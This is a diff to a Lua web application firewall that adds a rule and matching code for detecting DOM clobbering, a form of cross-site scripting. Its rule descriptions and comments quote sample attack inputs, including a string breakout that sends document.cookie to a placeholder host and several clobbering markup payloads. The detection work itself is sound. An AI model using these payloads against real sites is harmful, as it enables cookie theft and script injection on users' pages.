@@ -60,6 +60,10 @@ _M.RULES = {
     { id = "xss-js-breakout", severity = "critical", pl = 1,
       desc = "a JavaScript string the value closes, then a call and the rest of the "
              .. "line commented out (x';fetch('//h/?'+document.cookie)//)" },
+    { id = "xss-clobber", severity = "critical", pl = 1,
+      desc = "DOM clobbering: an image named after the document's own property "
+             .. "(<img name=cookie>), or an id given twice, the second time with a name "
+             .. "(<a id=x><a id=x name=y href=...>)" },
     { id = "xss-obfuscation", severity = "critical", pl = 1,
       desc = "JSFuck, tagged templates, spaced-out tag names" },
     { id = "xss-ssi", severity = "critical", pl = 1,
@@ -628,11 +632,67 @@ local function title_whole(s, closing, b, e)
 end
 
 
+-- DOM clobbering: the document gives an <img>'s name (and an <img>'s id
+-- beside a name) as one of its own properties, ahead of its built-ins:
+-- "<img name=getElementById>" makes document.getElementById an element,
+-- "<img name=cookie>" makes document.cookie one, and the page's script
+-- that calls or reads it acts on markup the value chose. (form, embed,
+-- object and iframe, which the document names too, are xss-tag's.) And
+-- an id given twice, the second time beside a name, makes window.id a
+-- collection whose .name is the attacker's element ("<a id=cfg><a id=cfg
+-- name=url href=...>"): a page's own markup gives an id once.
+local DOC_PROPS = {}
+for name in string.gmatch([[cookie domain body head forms images links scripts anchors
+    embeds plugins all currentscript defaultview documentelement getelementbyid
+    getelementsbytagname getelementsbyclassname getelementsbyname queryselector
+    queryselectorall createelement createtextnode createrange write writeln open close
+    referrer url documenturi baseuri implementation activeelement readystate
+    stylesheets characterset contenttype doctype evaluate execcommand
+    addeventlistener appendchild removechild insertbefore contains nodetype
+    ownerdocument parentnode attributes children firstchild lastchild childnodes
+    innerhtml outerhtml textcontent getattribute setattribute hasattribute
+    __proto__ constructor prototype tostring valueof hasownproperty defaultcharset
+    getselection hasfocus importnode adoptnode]], "[%w_]+") do
+    DOC_PROPS[name] = true
+end
+
+local function attr_word(attrs, attr)
+    return match(attrs, "[%s/\"']" .. attr .. "%s*=%s*[\"']?([%w_$-]+)")
+end
+
+-- Does this tag clobber (name: the element; attrs: its attributes as
+-- written up to ">", lower-cased; ids: the ids seen before, or nil)?
+-- Returns the hit, and the ids table (made on the first id).
+local function clobbers(name, attrs, ids)
+    if not find(attrs, "=", 1, true) then
+        return false, ids
+    end
+    local named = attr_word(" " .. attrs, "name")
+    if name == "img" and named and DOC_PROPS[named] then
+        return true, ids
+    end
+    local id = attr_word(" " .. attrs, "id")
+    if not id then
+        return false, ids
+    end
+    if name == "img" and named and DOC_PROPS[id] then
+        return true, ids
+    end
+    if ids and ids[id] and named then
+        return true, ids
+    end
+    ids = ids or {}
+    ids[id] = true
+    return false, ids
+end
+
+
 -- Every "<name" read as a tag: dangerous elements, then the tag's own
 -- attributes (up to 400 bytes on) for handlers and script URLs.
 local function scan_tags(s, v, on, report)
     local ctx = get(v, "re_ctx")
     ctx.pos = 1
+    local ids           -- (the ids of the tags so far: xss-clobber)
     for _ = 1, 32 do
         local m = re_match(s, RE_TAG, "jo", ctx)
         if not m then
@@ -667,6 +727,13 @@ local function scan_tags(s, v, on, report)
         end
         local rest = sub(s, e, e + 400)
         local attrs = match(rest, "^[^>]*")
+        if on["xss-clobber"] and name and not prefix and m[1] == "" then
+            local hit
+            hit, ids = clobbers(name, attrs, ids)
+            if hit and report("xss-clobber") then
+                return true
+            end
+        end
         if on["xss-handler"] and ((re_find(rest, RE_ATTR_HANDLER, "jo") and handler_runs(attrs))
                                   or re_find(rest, RE_ATTR_ACTIVE, "jo")
                                   or (find(attrs, "xlink:href", 1, true)
